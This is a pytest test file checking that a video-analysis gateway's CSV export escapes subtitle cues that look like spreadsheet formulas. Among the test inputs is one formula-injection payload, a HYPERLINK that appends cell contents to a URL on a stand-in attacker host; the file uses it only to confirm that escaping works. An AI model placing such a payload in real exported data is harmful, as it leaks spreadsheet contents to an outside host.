"""result.csv: what a spreadsheet opening it would run, and what it shows."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from emocore.labels import LABELS
from gateway.export import result_csv
from gateway.results import JobResult


def shot(lines: list[str]) -> dict[str, Any]:
    scores = {label: 1 / len(LABELS) for label in LABELS}
    return {
        "index": 0, "start_s": 0.0, "end_s": 1.0, "start_frame": 0, "end_frame": 24,
        "transition": "start", "confidence": 1.0, "face": None, "audio": None,
        "text": {"source": "subtitles", "lines": lines, "label": "neutral", "scores": scores},
        "fused": {"label": "neutral", "scores": scores, "needs_review": False, "modalities_used": ["text"]},
    }


def read_back(result: dict[str, Any]) -> list[dict[str, str]]:
    typed = JobResult.model_validate({"video": {"duration_s": 1.0, "fps": 25.0, "width": 64, "height": 48}, **result})
    return list(csv.DictReader(io.StringIO(result_csv(typed))))


@pytest.mark.parametrize(
    "cue", ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-1+1", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"],
)
def test_a_cue_that_looks_like_a_formula_comes_out_as_text(cue: str) -> None:
    (row,) = read_back({"shots": [shot([cue])]})
    assert row["text"] == "'" + cue  # a leading quote: the spreadsheet shows the text, runs nothing
    assert not row["text"].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_ordinary_cells_are_unchanged() -> None:
    (row,) = read_back({"shots": [shot(["I'm so happy", "to see you"])]})
    assert row["text"] == "I'm so happy / to see you"
    assert row["fused_label"] == "neutral" and float(row["fused_anger"]) == pytest.approx(1 / 7)
